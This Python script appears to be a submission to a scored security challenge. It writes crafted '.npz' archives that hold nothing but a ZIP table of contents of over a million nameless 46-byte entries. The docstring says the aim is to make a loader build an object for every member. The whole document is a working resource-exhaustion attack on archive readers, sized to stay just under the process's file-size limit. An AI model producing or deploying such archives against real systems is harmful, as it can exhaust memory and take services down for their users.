"""Part 1, 1 point: leaves archives that are nothing but a table of contents, of more than a million
entries without a name, 46 bytes each. A reader who counts the members asks for their list first,
and has made an object of each by then."""
import json
import os
import pathlib
import resource
import struct

OUT = pathlib.Path.cwd().parent.parent / "out"
ENTRY = struct.pack("<4s4B4HL2L5H2L", b"PK\1\2", 20, 3, 20, 0, 0, 0, 0, 33, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0)
assert len(ENTRY) == 46

left = int(0.9 * resource.getrlimit(resource.RLIMIT_FSIZE)[0])
(OUT / "load.json").write_text('{"errors": []}')
for k in range(8):
    count = min(left, 79 * 2**20) // 46
    if count < 1000:
        break
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, 46 * count, 0, 0)
    (OUT / f"{k}.npz").write_bytes(ENTRY * count + end)
    (OUT / f"{k}.json").write_text(json.dumps({"value": {"plain": 1}}))
    left -= 46 * count
os._exit(0)
